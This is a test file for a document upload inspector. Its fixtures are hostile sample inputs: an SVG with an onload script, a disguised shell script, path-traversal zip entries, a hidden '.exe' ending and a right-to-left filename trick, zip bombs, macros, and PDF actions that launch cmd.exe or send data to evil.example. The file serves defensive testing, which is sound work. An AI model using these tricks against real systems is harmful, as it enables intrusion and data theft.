import { createHash } from 'node:crypto';
import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import { CONTENT_LIMITS } from '../../src/documents/contents/content-limits.js';
import { inspectContent, type InspectedContent } from '../../src/documents/contents/inspect-content.js';
import { withoutPosition } from '../../src/documents/contents/picture.js';
import { pdfOf } from '../../src/documents/typesetting/pdf-letter.js';
import { Problem } from '../../src/shared/problem.js';
import { aSupplementRequest } from './a-letter.js';
import { A_PERSONAL_NUMBER, aDocx, aJpeg, anExif, anOdt, anXlsx, aPdf, aPng, aStream, aZip, officeParts } from './some-files.js';

const look = (bytes: Buffer | string, name: string, type = ''): Promise<InspectedContent> => inspectContent(Buffer.from(bytes), { name, type }, CONTENT_LIMITS);

/** The code of the refusal, or what the file was taken for. */
async function verdict(bytes: Buffer | string, name: string, type = ''): Promise<string> {
  try {
    return (await look(bytes, name, type)).kind;
  } catch (error) {
    if (error instanceof Problem) return error.code;
    throw error;
  }
}

const MAIL = 'From: anna@sagolunda.example\r\nSubject: Hej\r\n\r\nHej!\r\n';

describe('files that may be sent', () => {
  test.each([
    ['pdf', aPdf(), 'Stadgar.pdf', 'application/pdf'],
    ['png', aPng(), 'bild.PNG', 'image/png'],
    ['jpeg', aJpeg(), 'bild.jpeg', 'image/jpeg'],
    ['docx', aDocx(), 'protokoll.docx', ''],
    ['xlsx', anXlsx(), 'budget.xlsx', 'application/octet-stream'],
    ['odt', anOdt(), 'text.odt', ''],
    ['ods', anOdt('application/vnd.oasis.opendocument.spreadsheet'), 'kalkyl.ods', ''],
    ['text', 'Åäö i UTF-8', 'läsmig.txt', 'text/plain; charset=utf-8'],
    ['text', Buffer.from('Åäö i Windows', 'latin1'), 'a.txt', 'text/plain'],
    ['text', Buffer.from('\uFEFFÅäö', 'utf16le'), 'a.txt', 'text/plain'],
    ['text', 'BM och MZ är ord, GIF89a också', 'b.txt', 'text/plain'],
    ['csv', 'namn;antal\nA;1\n', 'medlemmar.csv', 'application/vnd.ms-excel'],
    ['eml', MAIL, 'mejl.eml', 'message/rfc822'],
    ['pdf', aPdf(), 'utan ändelse', 'application/pdf'],
  ])('a %s is taken in under its own type', async (kind, bytes, name, type) => {
    const found = await look(bytes as Buffer, name, type);
    expect(found).toMatchObject({ kind, size: Buffer.from(bytes).length, marks: [], personalNumbers: 0 });
    expect(found.sha256).toBe(createHash('sha256').update(Buffer.from(bytes)).digest('hex'));
  });

  test('a letter of our own is taken in without a mark', async () => {
    expect(await look(await pdfOf(aSupplementRequest('sv')), 'brev.pdf')).toMatchObject({ kind: 'pdf', marks: [], personalNumbers: 0 });
  });
});

describe('files that are refused', () => {
  test.each([
    ['nothing at all', '', 'a.pdf', '', 'file.empty'],
    ['a drawing that can hold scripts', '<svg xmlns="http://www.w3.org/2000/svg"/>', 'a.svg', 'image/svg+xml', 'file.typeNotAllowed'],
    ['a web page', '<html></html>', 'a.html', 'text/html', 'file.typeNotAllowed'],
    ['a program', 'MZ\x90\0', 'a.exe', '', 'file.typeNotAllowed'],
    ['a program called PDF', 'MZ\x90\0', 'a.pdf', 'application/pdf', 'file.typeMismatch'],
    ['a program called text', Buffer.from('MZ\x90\0\x03\0', 'latin1'), 'a.txt', 'text/plain', 'file.encodingUnknown'],
    ['a web page called text', ' \n<!DOCTYPE html><script>1</script>', 'a.txt', 'text/plain', 'file.textDressedUp'],
    ['a drawing called text', '<svg onload=alert(1)>', 'a.csv', 'text/csv', 'file.textDressedUp'],
    ['a shell program called text', '#!/bin/sh\nrm x', 'a.txt', '', 'file.textDressedUp'],
    ['a PDF called Word', aPdf(), 'a.docx', '', 'file.typeMismatch'],
    ['a Word document called PDF', aDocx(), 'a.pdf', 'application/pdf', 'file.typeMismatch'],
    ['a spreadsheet called Word', anXlsx(), 'a.docx', '', 'file.typeMismatch'],
    ['a PDF that the browser calls a web page', aPdf(), 'a.pdf', 'text/html', 'file.typeMismatch'],
    ['a picture that the browser calls a drawing', aPng(), 'a.png', 'image/svg+xml', 'file.typeMismatch'],
    ['a hidden last ending', aPdf(), 'a.pdf\u0000.exe', '', 'file.typeNotAllowed'],
    ['a turned name', aPdf(), 'a\u202Efdp.exe', '', 'file.typeNotAllowed'],
    ['a plain zip', aZip([{ name: 'a.txt', data: 'a' }]), 'a.zip', 'application/zip', 'file.typeNotAllowed'],
    ['a plain zip called Word', aZip([{ name: 'a.txt', data: 'a' }]), 'a.docx', '', 'file.typeNotAllowed'],
    ['no ending and no type', aZip([{ name: 'a.txt', data: 'a' }]), 'a', '', 'file.typeNotAllowed'],
    ['text without an ending', 'hej', 'a', '', 'file.typeNotAllowed'],
    ['a gif', 'GIF89a', 'a.gif', 'image/gif', 'file.typeNotAllowed'],
    ['a text called mail', 'bara text', 'a.eml', '', 'file.typeMismatch'],
    ['a web page called mail', '<html>\r\nFrom: a\r\n\r\n', 'a.eml', '', 'file.typeMismatch'],
    ['half a PDF', aPdf().subarray(0, 20), 'a.pdf', '', 'file.damaged'],
    ['half a PNG', aPng().subarray(0, 50), 'a.png', '', 'file.damaged'],
    ['half a JPEG', aJpeg().subarray(0, 12), 'a.jpg', '', 'file.damaged'],
    ['a JPEG without its end', aJpeg().subarray(0, -2), 'a.jpg', '', 'file.damaged'],
    ['half a Word document', aDocx().subarray(0, -30), 'a.docx', '', 'file.damaged'],
    ['a picture of a hundred thousand by a hundred thousand', aPng({ width: 100_000, height: 100_000 }), 'a.png', '', 'file.pictureTooLarge'],
    ['a picture without size', aJpeg({ width: 0 }), 'a.jpg', '', 'file.damaged'],
  ])('%s', async (_, bytes, name, type, code) => {
    expect(await verdict(bytes as Buffer, name, type)).toBe(code);
  });

  test('more than the limit, before anything is looked at', async () => {
    await expect(look(Buffer.alloc(CONTENT_LIMITS.bytes + 1), 'a.pdf')).rejects.toMatchObject({ kind: 'tooLarge', code: 'file.tooLarge', facts: { mostMegabytes: 10 } });
  });
});

describe('packed documents that hide something', () => {
  const types = officeParts('application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml', '<w:p/>');

  test.each([
    ['unpacks to two hundred megabytes', () => aDocx('', [{ name: 'word/media/a.bin', data: Buffer.alloc(200 * 1_048_576) }]), 'file.unpacksTooLarge'],
    ['says a small size and unpacks to a large one', () => aDocx('', [{ name: 'word/a.xml', data: Buffer.alloc(1_000_000), size: 10 }]), 'file.unpacksTooLarge'],
    ['has a part that shares its bytes with another', () => aDocx('', [{ name: 'word/b.xml', data: '<w:p/>', sameAs: 2 }]), 'file.damaged'],
    ['has ten thousand parts', () => aZip([...types, ...Array.from({ length: 10_000 }, (_, index) => ({ name: `a${index}`, data: '', stored: true }))]), 'file.tooManyParts'],
    ['claims more parts than it has', () => aZip(types, { count: 60_000 }), 'file.tooManyParts'],
    ['claims fewer parts than it has', () => aZip(types, { count: 1 }), 'file.damaged'],
    ['leads out of its folder', () => aDocx('', [{ name: '../../etc/evil', data: 'x' }]), 'file.damaged'],
    ['leads out of its folder the other way', () => aDocx('', [{ name: '..\\..\\evil', data: 'x' }]), 'file.damaged'],
    ['leads to the root', () => aDocx('', [{ name: '/etc/evil', data: 'x' }]), 'file.damaged'],
    ['leads to a disk', () => aDocx('', [{ name: 'C:/evil', data: 'x' }]), 'file.damaged'],
    ['has a name with an end inside', () => aDocx('', [{ name: 'a\0.xml', data: 'x' }]), 'file.damaged'],
    ['has two parts of one name', () => aDocx('', [{ name: 'WORD/document.xml', data: 'x' }]), 'file.damaged'],
    ['tells two names for one part', () => aDocx('', [{ name: 'word/a.xml', localName: 'word/b.xml', data: 'x' }]), 'file.damaged'],
    ['has a wrong check sum', () => aDocx('', [{ name: 'word/a.xml', data: 'x', crc: 1 }]), 'file.damaged'],
    ['begins with something else', () => aZip(types, { before: Buffer.from('PK\x03\x04'.padEnd(64, '#'), 'latin1') }), 'file.damaged'],
    ['ends with something else', () => aZip(types, { after: Buffer.from('<html>') }), 'file.damaged'],
    ['has a comment', () => aZip(types, { comment: '<script>' }), 'file.damaged'],
    ['is locked', () => aDocx('', [{ name: 'word/a.xml', data: 'x', flags: 0x801 }]), 'file.encrypted'],
    ['holds macros', () => aDocx('', [{ name: 'word/vbaProject.bin', data: 'x' }]), 'file.macros'],
    ['says it holds macros', () => aZip(officeParts('application/vnd.ms-word.document.macroEnabled.main+xml', '')), 'file.macros'],
    ['holds a program', () => aDocx('', [{ name: 'word/embeddings/a.bin', data: 'MZ\x90' }]), 'file.programInside'],
    ['defines entities', () => aDocx('<!DOCTYPE a [<!ENTITY lol "lol">]><w:p>&lol;</w:p>'), 'file.damaged'],
  ])('one that %s is refused', async (_, make, code) => {
    expect(await verdict(make(), 'a.docx')).toBe(code);
  });

  test('the same goes for OpenDocument', async () => {
    expect(await verdict(anOdt(undefined, '', [{ name: 'Basic/Standard/a.xml', data: '<m/>' }]), 'a.odt')).toBe('file.macros');
    expect(await verdict(anOdt(undefined, '', [{ name: 'META-INF/x.xml', data: '<manifest:encryption-data/>' }]), 'a.odt')).toBe('file.encrypted');
    expect(await verdict(anOdt('application/vnd.oasis.opendocument.presentation'), 'a.odt')).toBe('file.typeNotAllowed');
  });

  test('a document within a document is kept and marked', async () => {
    expect((await look(aDocx('', [{ name: 'word/embeddings/a.xlsx', data: anXlsx() }]), 'a.docx')).marks).toEqual(['embeddedFile']);
  });

  test('a template that is fetched from elsewhere is marked, a link is not', async () => {
    const relation = '<Relationships><Relationship Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>';
    expect((await look(aDocx('', [{ name: 'word/_rels/settings.xml.rels', data: relation }]), 'a.docx')).marks).toEqual(['externalContent']);
    expect((await look(aDocx(), 'a.docx')).marks).toEqual([]);
  });
});

describe('PDFs that can do something are kept as they are, and marked', () => {
  test.each([
    ['script', ['<< /S /JavaScript /JS (app.alert(1)) >>']],
    ['script', ['<< /S /J#61vaScript >>']],
    ['script', [aStream('/Type /ObjStm /N 1 /First 4', '1 0 << /S /JavaScript /JS (x) >>')]],
    ['script', ['<< /AcroForm << /XFA 3 0 R >> >>']],
    ['script', [aStream('/Subtype /Image', '<< /S /JavaScript >>', false)]],
    ['opensItself', ['<< /OpenAction 2 0 R >>']],
    ['opensItself', ['<< /AA << /O 2 0 R >> >>']],
    ['launch', ['<< /S /Launch /F (cmd.exe) >>']],
    ['embeddedFile', ['<< /Names << /EmbeddedFiles 3 0 R >> >>']],
    ['externalContent', ['<< /S /SubmitForm /F (https://evil.example) >>']],
  ])('%s: %s', async (mark, objects) => {
    expect((await look(aPdf(objects), 'a.pdf')).marks).toEqual([mark]);
  });

  test('that opens at a page is nothing to mark', async () => {
    expect((await look(aPdf(['<< /OpenAction [3 0 R /Fit] >>']), 'a.pdf')).marks).toEqual([]);
  });

  test('that is a zip or a web page at the same time is an opaque PDF with more bytes after its end', async () => {
    expect(await look(Buffer.concat([aPdf(), aDocx()]), 'a.pdf')).toMatchObject({ kind: 'pdf', marks: ['trailingData'] });
    expect(await look(Buffer.concat([aPdf(), Buffer.from('<html><script>1</script>')]), 'a.pdf')).toMatchObject({ kind: 'pdf', marks: ['trailingData'] });
    expect(await verdict(Buffer.concat([Buffer.from('<html>'), aPdf()]), 'a.pdf')).toBe('file.typeMismatch');
  });

  test('that is locked cannot be searched', async () => {
    expect((await look(aPdf(['<< /Encrypt 3 0 R >>']), 'a.pdf')).marks).toEqual(['encrypted', 'notSearched']);
  });

  test('that unpacks to very much is not unpacked further', async () => {
    const bomb = aPdf([aStream('', Buffer.alloc(30 * 1_048_576)), aStream('', Buffer.alloc(30 * 1_048_576))]);
    const before = process.memoryUsage().rss;
    expect((await look(bomb, 'a.pdf')).marks).toEqual(['notSearched']);
    expect(process.memoryUsage().rss - before).toBeLessThan(300 * 1_048_576);
  });

  test('a picture with more bytes after its end is marked', async () => {
    expect((await look(aPng({ after: aDocx() }), 'a.png')).marks).toEqual(['trailingData']);
  });
});

describe('where a picture was taken', () => {
  const xmp = '<x exif:GPSLatitude="59,20.5N" exif:GPSLongitude="17,50E"/><exif:GPSAltitude>12</exif:GPSAltitude><dc:title>Fest</dc:title>';

  test.each([
    ['JPEG, little end first', aJpeg({ exif: anExif('II') }), 'jpeg', 'a.jpg'],
    ['JPEG, big end first', aJpeg({ exif: anExif('MM') }), 'jpeg', 'a.jpg'],
    ['JPEG with XMP', aJpeg({ xmp }), 'jpeg', 'a.jpg'],
    ['PNG', aPng({ exif: anExif('II') }), 'png', 'a.png'],
  ] as const)('is marked, and taken out when the picture is handed out: %s', async (_, bytes, kind, name) => {
    expect((await look(bytes, name)).marks).toEqual(['position']);
    const handedOut = withoutPosition(bytes, kind);
    expect(handedOut).toHaveLength(bytes.length);
    expect((await look(handedOut, name)).marks).toEqual([]);
    expect(handedOut.includes('59,20')).toBe(false);
    if (bytes.includes('Kamera1')) expect(handedOut.includes('Kamera1')).toBe(true);
    if (bytes.includes('Fest')) expect(handedOut.includes('Fest')).toBe(true);
  });

  test('a picture that tells nothing is handed out byte for byte', () => {
    expect(withoutPosition(aJpeg(), 'jpeg').equals(aJpeg())).toBe(true);
    expect(withoutPosition(aPng(), 'png').equals(aPng())).toBe(true);
  });

  test('broken blocks say nothing and break nothing', async () => {
    await fc.assert(
      fc.asyncProperty(fc.uint8Array({ maxLength: 130 }), async (noise) => {
        const exif = Buffer.from(anExif('II'));
        noise.forEach((byte, index) => index >= 4 && index < exif.length && byte > 128 && (exif[index] = byte));
        const bytes = aJpeg({ exif });
        expect((await look(bytes, 'a.jpg')).kind).toBe('jpeg');
        expect(withoutPosition(bytes, 'jpeg')).toHaveLength(bytes.length);
      }),
      { numRuns: 200 },
    );
  });
});

describe('personal numbers are counted wherever text can be read', () => {
  const split = `<w:p><w:r><w:t>19121212</w:t></w:r><w:r><w:t>-1212</w:t></w:r></w:p>`;

  test.each([
    ['text', `Ordförande ${A_PERSONAL_NUMBER}`, 'a.txt'],
    ['Windows text', Buffer.from(`Ordförande ${A_PERSONAL_NUMBER}`, 'latin1'), 'a.txt'],
    ['CSV', `namn;nr\nA;${A_PERSONAL_NUMBER}`, 'a.csv'],
    ['Word, split by formatting', aDocx(split), 'a.docx'],
    ['Excel as a number', anXlsx('<row><c><v>191212121212</v></c></row>'), 'a.xlsx'],
    ['OpenDocument', anOdt(undefined, `<text:p>${A_PERSONAL_NUMBER}</text:p>`), 'a.odt'],
    ['PDF, plain', aPdf([aStream('', `BT /F1 12 Tf (Nr ${A_PERSONAL_NUMBER}) Tj ET`)]), 'a.pdf'],
    ['PDF, spread out', aPdf([aStream('', 'BT [(1912) 20 (1212) -15 (-12) 3 (12)] TJ ET')]), 'a.pdf'],
    ['PDF, escaped', aPdf([aStream('', 'BT (\\061912\\0612\\061\\062\\0551212) Tj ET')]), 'a.pdf'],
  ])('%s', async (_, bytes, name) => {
    expect((await look(bytes as Buffer, name)).personalNumbers).toBe(1);
  });

  test('a PDF with embedded fonts', async () => {
    const letter = await pdfOf(aSupplementRequest('sv', { question: `Ordförande: ${A_PERSONAL_NUMBER}` }));
    expect((await look(letter, 'a.pdf')).personalNumbers).toBe(1);
  });

  test('neighbouring cells and paragraphs do not become a number', async () => {
    expect((await look(anXlsx('<row><c><v>19121212</v></c><c><v>1212</v></c></row>'), 'a.xlsx')).personalNumbers).toBe(0);
    expect((await look(aPdf([aStream('', 'BT 1 0 0 1 50 700 Tm (19121212) Tj 1 0 0 1 90 700 Tm (1212) Tj ET')]), 'a.pdf')).personalNumbers).toBe(0);
  });
});

describe('any bytes at all', () => {
  const samples = { 'a.pdf': aPdf([aStream('', 'BT (x) Tj ET'), '<< /OpenAction 2 0 R >>']), 'a.docx': aDocx(), 'a.odt': anOdt(), 'a.png': aPng({ exif: anExif() }), 'a.jpg': aJpeg({ exif: anExif() }), 'a.eml': Buffer.from(MAIL) };

  test('give a verdict or a problem, never an error', async () => {
    await fc.assert(
      fc.asyncProperty(fc.constantFrom(...Object.keys(samples)), fc.uint8Array({ maxLength: 400 }), async (name, bytes) => {
        expect(typeof (await verdict(Buffer.from(bytes), name))).toBe('string');
      }),
      { numRuns: 300 },
    );
  });

  test('good files with a few bytes changed, cut or doubled give a verdict or a problem, never an error', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(...(Object.keys(samples) as (keyof typeof samples)[])),
        fc.array(fc.tuple(fc.nat(), fc.nat(255)), { maxLength: 4 }),
        fc.option(fc.nat(), { nil: undefined }),
        async (name, changes, cut) => {
          const bytes = Buffer.from(samples[name]);
          for (const [at, byte] of changes) bytes[at % bytes.length] = byte;
          const sent = cut === undefined ? bytes : bytes.subarray(0, cut % bytes.length);
          expect(typeof (await verdict(sent, name))).toBe('string');
        },
      ),
      { numRuns: 800 },
    );
  });
});
